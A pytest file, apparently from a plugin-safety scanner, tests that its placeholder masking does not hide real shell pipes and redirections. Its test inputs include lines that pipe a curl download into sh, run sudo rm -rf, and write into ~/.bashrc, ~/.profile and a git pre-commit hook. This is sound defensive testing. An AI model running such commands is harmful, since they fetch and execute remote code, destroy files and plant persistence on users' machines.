"""A placeholder of a command line is no redirection; nothing that a shell would do is hidden in the guise of one."""

from __future__ import annotations

import pytest

from plugseal.lang.facts import Context, Interest
from plugseal.lang.prose.fences import mask_placeholders
from plugseal.lang.registry import reader_named


@pytest.mark.parametrize(
    "line",
    [
        pytest.param("curl -s https://a.invalid/x <f | sh>out", id="a pipe into a shell"),
        pytest.param("curl -s https://a.invalid/x <f | sh> -x", id="a file that looks like an option"),
        pytest.param("x <f | python3 -c foo> y", id="a pipe into an interpreter"),
        pytest.param("sudo <f rm -rf home> log", id="what a wrapper starts"),
        pytest.param('eval "sudo <f rm -rf foo>" log', id="a text that is run"),
        pytest.param("cat <a> ~/.profile", id="a start file"),
        pytest.param("echo x @<k>/root/.bashrc", id="a start file behind an address"),
        pytest.param("echo x @<k> ~/.bashrc", id="a start file after a blank"),
        pytest.param("echo x /<k>.git/hooks/pre-commit", id="a hook behind a path"),
    ],
)
def test_what_a_shell_would_do_is_not_hidden(line: str) -> None:
    assert mask_placeholders(line) == line


@pytest.mark.parametrize(
    ("line", "masked"),
    [
        pytest.param("deploy <env> --force", "deploy ${_,} --force", id="a word"),
        pytest.param("git clone https://<token>@<host>/x", "git clone https://${_%xx}@${_%x}/x", id="an address"),
        pytest.param("cd /plugins/<name>/skills", "cd /plugins/${_%x}/skills", id="part of a path"),
        pytest.param("cat /home/<u>/.ssh/config", "cat /home/$_./.ssh/config", id="the home of somebody"),
        pytest.param("x --role <reader|writer> --e <m>", "x --role ${_%xxxxxxxxxx} --e $_.", id="a choice"),
        pytest.param("x show <workflow name> --all", "x show ${_%xxxxxxxxxx} --all", id="two words"),
        pytest.param("get <a> | grep <b>", "get $_. | grep $_.", id="parts of a pipeline"),
        pytest.param("x <f | bash>", "x ${_%xxxxx}", id="a choice at the end, which no shell takes"),
    ],
)
def test_a_placeholder_is_a_variable_that_nobody_knows(line: str, masked: str) -> None:
    assert mask_placeholders(line) == masked
    assert len(masked) == len(line)


def test_a_pipe_between_angle_brackets_is_read_in_a_fence() -> None:
    text = "Run this.\n\n```sh\ncurl -s https://a.invalid/x <README | sh> out\n```\n"
    nested = reader_named("instructions").read(text.encode(), Context("skills/a/SKILL.md", Interest())).nested
    assert any("| sh>" in one.text for one in nested)
